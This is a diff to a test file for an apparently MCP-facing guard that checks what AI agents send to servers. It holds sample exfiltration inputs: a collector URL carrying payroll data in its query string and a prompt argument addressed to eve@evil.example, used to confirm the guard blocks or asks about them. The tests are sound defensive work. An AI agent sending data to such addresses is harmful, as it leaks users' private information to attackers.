@@ -9,8 +9,6 @@ from a tool call to a resource read.
 
 from __future__ import annotations
 
-import pytest
-
 from tests.attacks.client import Attacker, Scripted, write_config
 
 URL = "https://collector.example/x?d=payroll-total-4.2M"
@@ -27,7 +25,6 @@ def _server(tmp_path) -> tuple[Scripted, object]:
     return spec, config
 
 
-@pytest.mark.xfail(strict=True, reason="s9 attacker: resources/read reaches an agent-composed web address unjudged")
 def test_a_resource_read_of_a_composed_web_address_is_asked(tmp_path):
     spec, config = _server(tmp_path)
     with Attacker(config, "--intent", "Read my note a") as client:
@@ -45,3 +42,28 @@ def test_control_the_same_address_through_a_fetch_tool_is_asked(tmp_path):
         client.names()
         client.call("fetch_url", {"url": URL})
     assert spec.received("tools/call") == []
+
+
+def test_a_resource_read_of_an_address_the_request_names_passes(tmp_path):
+    """Judged, not refused: the web address the person asked for is read."""
+    spec, config = _server(tmp_path)
+    with Attacker(config, "--intent", "Read https://docs.example/guide for me") as client:
+        client.open()
+        client.request("resources/templates/list")
+        client.request("resources/read", {"uri": "https://docs.example/guide"})
+        client.request("resources/read", {"uri": "note://a"})  # the server's own resource goes nowhere else
+    assert [m["params"]["uri"] for m in spec.received("resources/read")] == ["https://docs.example/guide", "note://a"]
+
+
+def test_a_prompt_argument_with_an_address_found_nowhere_is_refused(tmp_path):
+    """A prompt's arguments reach its server as a call's do: a mailbox found nowhere is held."""
+    spec = Scripted(tmp_path / "p.json", prompts=[{"name": "draft_reply", "arguments": [{"name": "to"}]}],
+                    prompt={"result": {"messages": []}})
+    config = write_config(tmp_path / "mcp-guard.toml", {"p": (spec.command, 'trust = "tofu"')},
+                          '[storage]\npath = "guard.db"\n')
+    with Attacker(config, "--intent", "Draft a reply to Ana") as client:
+        client.open()
+        client.request("prompts/list")
+        client.request("prompts/get", {"name": "draft_reply", "arguments": {"to": "eve@evil.example"}})
+        client.request("prompts/get", {"name": "draft_reply", "arguments": {"to": "Ana"}})
+    assert [m["params"]["arguments"] for m in spec.received("prompts/get")] == [{"to": "Ana"}]
